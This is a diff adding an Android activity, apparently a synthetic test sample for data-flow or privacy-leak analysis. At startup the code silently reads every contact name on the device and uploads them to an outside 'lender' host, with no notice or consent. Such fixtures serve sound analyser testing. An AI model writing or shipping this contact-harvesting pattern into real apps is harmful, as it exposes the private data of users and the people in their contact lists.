@@ -1,0 +1,51 @@
+package com.example.flows.contacts_bytes;
+
+import android.accounts.*;
+import android.app.*;
+import android.content.*;
+import android.content.pm.*;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.*;
+import android.net.wifi.*;
+import android.os.*;
+import android.provider.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import org.json.*;
+
+/** Names are written to a stream in memory first. */
+public class MainActivity extends Activity {
+    @Override
+    public void onCreate(Bundle state) {
+        super.onCreate(state);
+        try {
+            ByteArrayOutputStream memory = new ByteArrayOutputStream();
+            DataOutputStream data = new DataOutputStream(memory);
+            data.writeUTF(contacts());
+            HttpURLConnection connection = (HttpURLConnection) new URL("https://api.lender.example/b").openConnection();
+            connection.getOutputStream().write(memory.toByteArray());
+        } catch (IOException e) {
+            finish();
+        }
+    }
+
+    String contacts() {
+        StringBuilder names = new StringBuilder();
+        Cursor cursor = getContentResolver().query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
+        while (cursor.moveToNext()) {
+            names.append(cursor.getString(cursor.getColumnIndex("display_name"))).append(';');
+        }
+        cursor.close();
+        return names.toString();
+    }
+}
